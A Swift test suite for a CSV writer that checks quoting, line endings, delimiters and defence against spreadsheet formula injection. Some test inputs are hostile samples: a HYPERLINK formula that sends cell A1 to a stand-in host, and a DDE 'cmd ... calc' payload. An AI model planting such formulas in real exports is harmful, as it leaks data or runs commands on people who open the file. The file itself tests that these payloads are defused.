import CaseCSV
import Foundation
import Testing

@Suite("CSV writer")
struct CSVWriterTests {
  static func text(_ rows: [[String]], _ edit: (inout CSVWriter.Options) -> Void = { _ in }) -> String {
    var o = CSVWriter.Options()
    edit(&o)
    var w = CSVWriter(options: o)
    for r in rows { w.writeRow(r) }
    return String(decoding: w.bytes, as: UTF8.self)
  }

  @Test("quotes only fields holding the delimiter, a quote, CR or LF; doubles quotes")
  func quoting() {
    let out = Self.text([["a", "b,c", "d\"e", "f\rg", "h\ni", " j ", "", "k;l", "m\tn"]]) { $0.neutraliseFormulas = false }
    #expect(out == "a,\"b,c\",\"d\"\"e\",\"f\rg\",\"h\ni\", j ,,k;l,m\tn\r\n")
    #expect(Self.text([["\"\""]]) { $0.neutraliseFormulas = false } == "\"\"\"\"\"\"\r\n")
  }

  @Test("line endings")
  func lineEndings() {
    #expect(Self.text([["a", "b"], ["c", "d"]]) == "a,b\r\nc,d\r\n")
    #expect(Self.text([["a", "b"], ["c", "d"]]) { $0.lineEnding = .lf } == "a,b\nc,d\n")
  }

  @Test("a row of one empty field is written as \"\" so it cannot read back as a blank row")
  func singleEmptyField() {
    #expect(Self.text([[""]]) == "\"\"\r\n")
    #expect(Self.text([["", ""]]) == ",\r\n")
    #expect(Self.text([[]]) == "\r\n")
  }

  @Test("other delimiters")
  func delimiters() {
    #expect(Self.text([["a;b", "c,d"]]) { $0.delimiter = 0x3B; $0.neutraliseFormulas = false } == "\"a;b\";c,d\r\n")
    #expect(Self.text([["a\tb", "c"]]) { $0.delimiter = 0x09; $0.neutraliseFormulas = false } == "\"a\tb\"\tc\r\n")
    // Neutralising also quotes the usual separators, so no spreadsheet locale can split the cell.
    #expect(Self.text([["x;=1+1", "c,d", "e\tf"]]) { $0.delimiter = 0x7C } == "\"x;=1+1\"|\"c,d\"|\"e\tf\"\r\n")
  }

  @Test(
    "each formula trigger is neutralised with a quoted leading apostrophe",
    arguments: ["=", "+", "-", "@", "\t", "\r", "\n", "\0"])
  func neutralisation(_ trigger: String) {
    let value = trigger + "HYPERLINK(\"http://192.0.2.1/?\"&A1)"
    let escaped = value.replacingOccurrences(of: "\"", with: "\"\"")
    #expect(Self.text([[value]]) == "\"'" + escaped + "\"\r\n")
    #expect(Self.text([[value]]) { $0.neutraliseFormulas = false } == "\"" + escaped + "\"\r\n")
  }

  @Test("strict E.164 numbers are exempt; anything else starting with + is not")
  func e164() {
    #expect(Self.text([["+14155550100"]]) == "+14155550100\r\n")
    #expect(Self.text([["+44"]]) == "+44\r\n")
    #expect(Self.text([["+123456789012345"]]) == "+123456789012345\r\n")
    for v in ["+1234567890123456", "+0123", "+1", "+1 415 555", "+1-415", "+\u{0661}\u{0662}", "+", "++1"] {
      #expect(Self.text([[v]]) == "\"'\(v)\"\r\n", "\(v)")
    }
    #expect(Self.text([["-5"], ["@handle"], ["=SUM(A1)"]]) == "\"'-5\"\r\n\"'@handle\"\r\n\"'=SUM(A1)\"\r\n")
  }

  @Test("values starting with apostrophes before a trigger get one more, so unneutralise is exact")
  func apostrophes() {
    #expect(Self.text([["'=x"]]) == "\"''=x\"\r\n")
    #expect(Self.text([["''@y"]]) == "\"'''@y\"\r\n")
    #expect(Self.text([["'plain"]]) == "'plain\r\n")
    #expect(Self.text([["'+14155550100"]]) == "\"''+14155550100\"\r\n")
  }

  @Test("unneutralise inverts a neutralising writer, through the tokenizer")
  func unneutraliseRoundTrip() {
    let values = [
      "=1+1", "'=x", "''@y", "'plain", "-5", "+14155550100", "+0", "'", "", "@", "=", "plain", "a=b", "\t", "\r\n",
      "'\r", "\u{202E}=x", "'''", "-", "user@example.com", "=cmd|' /C calc'!A0",
    ]
    var w = CSVWriter()
    w.writeRow(["v"])
    for v in values { w.writeRow([v]) }
    let t = tokenize(w.bytes)
    #expect(t.rejected.isEmpty)
    #expect(t.values.map { CSVWriter.unneutralise($0[0]) } == values)
    // Every written cell that starts with a trigger is protected.
    for row in t.values {
      if let first = row[0].unicodeScalars.first {
        #expect(!"=+-@\t\r\n\0".unicodeScalars.contains(first) || row[0] == "+14155550100")
      }
    }
  }

  @Test("unneutralise leaves other values alone")
  func unneutraliseOthers() {
    #expect(CSVWriter.unneutralise("'=x") == "=x")
    #expect(CSVWriter.unneutralise("''=x") == "'=x")
    #expect(CSVWriter.unneutralise("'x") == "'x")
    #expect(CSVWriter.unneutralise("'") == "'")
    #expect(CSVWriter.unneutralise("=x") == "=x")
    #expect(CSVWriter.unneutralise("'\u{301}=") == "'\u{301}=")
  }
}
